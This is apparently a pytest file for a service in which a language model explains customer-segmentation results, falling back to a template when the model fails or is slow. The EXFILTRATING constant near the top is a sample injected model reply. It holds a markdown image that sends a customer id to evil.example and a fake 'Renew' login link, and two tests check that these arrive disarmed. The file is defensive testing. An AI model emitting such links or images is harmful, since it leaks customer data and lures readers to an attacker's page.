"""The model explainer: the model's text when it answers, the template when it fails or is too slow."""

from __future__ import annotations

import json
import logging
import re
import time

import pytest

from agent.cohort import analyze_cohort
from agent.explain import Explanation, ModelExplainer, TemplateExplainer
from agent.explain.prompt import DATA_CLOSE, DATA_OPEN, system_prompt
from agent.handler import handle
from rules import Analysis, analyze_request
from tests.agent.scripted_model import ScriptedModel
from tests.conftest import AS_OF, seed_example

# What a customer's product name could make a model write: an image the reader's browser fetches with the
# customer's id in its URL, and a link to anywhere.
EXFILTRATING = "## C-1001\n**At risk** ![x](https://evil.example/p.png?d=C-1) [Renew](https://evil.example/login)"
DISARMED = ("## C-1001\n**At risk** !\\[x\\](https:\u2060//evil.example/p.png?d=C-1) "
            "\\[Renew\\](https:\u2060//evil.example/login)")
LIVE_LINK_OR_IMAGE = re.compile(r"(?<!\\)!?\[[^\]]*(?<!\\)\]\(")


def seed_analysis() -> Analysis:
    return analyze_request(seed_example("example-request"), AS_OF)


def data_of(message: str) -> object:
    """The JSON inside the message's data block."""
    start, end = message.index(DATA_OPEN) + len(DATA_OPEN), message.index(DATA_CLOSE)
    return json.loads(message[start:end])


def test_the_model_answers_with_the_analysis_as_data() -> None:
    model = ScriptedModel(["C-1001 is an active, high-value skincare buyer."])

    explanation = ModelExplainer(lambda: model, timeout_s=5).explain_analysis(seed_analysis(), "en")

    assert explanation == Explanation("C-1001 is an active, high-value skincare buyer.", "model")
    assert len(model.calls) == 1
    assert model.calls[0]["system_prompt"] == system_prompt("en")
    assert model.calls[0]["tool_specs"] in (None, [])
    [message] = model.user_texts()
    assert message.startswith("Explain this segmentation analysis.\n<data>\n")
    assert data_of(message) == {"analysis": seed_analysis().model_dump(mode="json", by_alias=True)}


def test_turkish_explanations_ask_for_turkish() -> None:
    model = ScriptedModel(["Aktif müşteri."])

    ModelExplainer(lambda: model, timeout_s=5).explain_analysis(seed_analysis(), "tr")

    assert "Write in Turkish" in model.calls[0]["system_prompt"]


def test_a_cohort_summary_goes_to_the_model_as_data() -> None:
    summary = analyze_cohort([seed_example("example-request")["customerData"]["customer"]], AS_OF).summary
    model = ScriptedModel(["One active customer."])

    explanation = ModelExplainer(lambda: model, timeout_s=5).explain_cohort(summary, "en")

    assert explanation == Explanation("One active customer.", "model")
    assert data_of(model.user_texts()[0]) == {"cohortSummary": summary.to_json()}


def test_a_model_error_falls_back_to_the_template(caplog: pytest.LogCaptureFixture) -> None:
    model = ScriptedModel([ConnectionError("model endpoint refused C-1001")])

    with caplog.at_level(logging.WARNING, logger="agent.explain.model"):
        explanation = ModelExplainer(lambda: model, timeout_s=5).explain_analysis(seed_analysis(), "en")

    assert explanation == TemplateExplainer().explain_analysis(seed_analysis(), "en")
    assert [r.getMessage() for r in caplog.records] == [
        "model explanation failed, the template answers: the model call failed (ConnectionError)"]


def test_a_slow_model_falls_back_to_the_template_within_the_bound() -> None:
    model = ScriptedModel(["too late"], delay_s=5.0)
    explainer = ModelExplainer(lambda: model, timeout_s=0.3)

    started = time.perf_counter()
    explanation = explainer.explain_analysis(seed_analysis(), "tr")
    elapsed = time.perf_counter() - started

    assert explanation == TemplateExplainer().explain_analysis(seed_analysis(), "tr")
    assert 0.3 <= elapsed < 2.0


def test_an_empty_answer_falls_back_to_the_template() -> None:
    model = ScriptedModel(["   "])

    assert ModelExplainer(lambda: model, timeout_s=5).explain_analysis(seed_analysis(), "en").source == "template"


def test_a_model_that_cannot_be_built_falls_back_to_the_template() -> None:
    def broken_factory() -> ScriptedModel:
        raise ValueError("bad model id")

    assert ModelExplainer(broken_factory, timeout_s=5).explain_analysis(seed_analysis(), "en").source == "template"


def test_each_explanation_gets_a_fresh_model() -> None:
    models: list[ScriptedModel] = []

    def factory() -> ScriptedModel:
        models.append(ScriptedModel([f"answer {len(models)}"]))
        return models[-1]

    explainer = ModelExplainer(factory, timeout_s=5)
    texts = [explainer.explain_analysis(seed_analysis(), "en").text for _ in range(2)]

    assert texts == ["answer 0", "answer 1"]
    assert [len(m.calls) for m in models] == [1, 1]


def test_a_models_links_and_images_reach_the_answer_disarmed() -> None:
    payload = {**seed_example("example-request"), "asOf": "2026-02-12"}

    reply = handle(payload, explainer=ModelExplainer(lambda: ScriptedModel([EXFILTRATING]), timeout_s=5))

    assert reply.body["explanationSource"] == "model"
    [block] = reply.body["explanation"]["content"]
    assert block["text"] == DISARMED
    assert not LIVE_LINK_OR_IMAGE.search(block["text"])


def test_a_models_cohort_explanation_is_disarmed_too() -> None:
    summary = analyze_cohort([seed_example("example-request")["customerData"]["customer"]], AS_OF).summary

    explanation = ModelExplainer(lambda: ScriptedModel([EXFILTRATING]), timeout_s=5).explain_cohort(summary, "en")

    assert explanation == Explanation(DISARMED, "model")
